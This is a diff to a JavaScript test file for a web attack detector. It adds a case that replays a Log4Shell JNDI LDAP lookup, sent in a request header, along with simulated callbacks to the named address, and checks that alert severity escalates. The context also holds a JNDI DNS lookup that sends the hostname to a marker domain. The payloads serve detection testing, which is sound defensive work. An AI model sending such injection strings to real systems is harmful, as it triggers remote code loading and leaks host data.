@@ -144,6 +144,19 @@ describe('a lookup (Log4Shell)', () => {
     expect(player.alerts[0]?.severity).toBe('medium');
   });
 
+  it('did not work because strangers, or neighbours in a browser, call an address that it names', () => {
+    const player = new Player(webAttackDetector);
+    const named = `$${'{jndi:ldap://198.51.100.7/a}'}`;
+    player.play(web(exchange('/', 200, '', { headers: [['x-api-version', named]] })));
+    player.play({ from: '192.0.2.44', to: '198.51.100.7', port: 389, steps: ['>S'] });
+    player.play({ from: '10.0.0.77', to: '198.51.100.7', port: 443, steps: ['>S'] });
+    player.wait(3);
+    expect(player.alerts[0]?.severity).toBe('medium');
+    player.play({ from: '10.0.0.78', to: '198.51.100.7', port: 389, steps: ['>S'] });
+    player.finish();
+    expect(player.alerts[0]?.severity).toBe('high');
+  });
+
   it('worked where its name is looked up', () => {
     const player = new Player(webAttackDetector);
     const lookup = `$${'{jndi:dns://$'}${'{hostName}.marker.example/a}'}`;
